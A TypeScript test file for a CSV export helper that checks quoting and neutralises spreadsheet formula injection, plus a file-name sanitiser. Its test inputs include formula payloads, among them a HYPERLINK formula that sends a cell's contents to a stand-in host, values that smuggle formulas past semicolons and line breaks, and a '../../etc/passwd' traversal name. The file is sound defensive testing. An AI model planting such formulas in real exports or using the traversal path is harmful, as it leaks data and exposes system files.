/** Tables for spreadsheets: the form of RFC 4180, and cells that a spreadsheet would run. */
import { expect, it } from 'vitest'
import { csvOf } from '../../../../functions/console/files/csv.ts'
import { fileNamePart } from '../../../../functions/console/files/save-file.ts'

it('quotes what has commas, quotes or line ends', () => {
  expect(
    csvOf(
      ['a', 'b'],
      [
        ['one, two', 'say "no"'],
        ['line\nend', undefined],
      ],
    ),
  ).toBe('\ufeffa,b\r\n"one, two","say ""no"""\r\n"line\nend",\r\n')
})

it.each(['=1+2', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '"=1+2', "'=1", '=HYPERLINK("https://a.example/?"&A1,"x")'])(
  '%j is text for a spreadsheet',
  (cell) => {
    const [, row = ''] = csvOf(['a'], [[cell]]).split('\r\n')
    expect(row.replace(/^"/, '')).toMatch(/^'/)
  },
)

it.each(['x;=1+2', 'x\n=1+2', 'x; "+1"', 'x\t@SUM(A1)', '＝1+2'])(
  'no part of %j is run where cells end at semicolons',
  (cell) => {
    const row = csvOf(['a'], [[cell, 'b']])
      .split('\r\n')
      .slice(1)
      .join('\r\n')
    const parts = row.replaceAll('"', '').split(/[;\t\n]/)
    expect(parts.filter((part) => /^[\s'"]*[=+\-@＝]/.test(part) && !part.startsWith("'"))).toEqual([])
  },
)

it('leaves numbers and plain words as they are', () => {
  expect(csvOf(['a'], [[-5], ['2026-11-30'], ['fine; well-meant']])).toBe(
    '\ufeffa\r\n-5\r\n2026-11-30\r\nfine; well-meant\r\n',
  )
})

it('makes names of files that every system takes', () => {
  expect(fileNamePart('../../etc/passwd å')).toBe('..-..-etc-passwd')
})
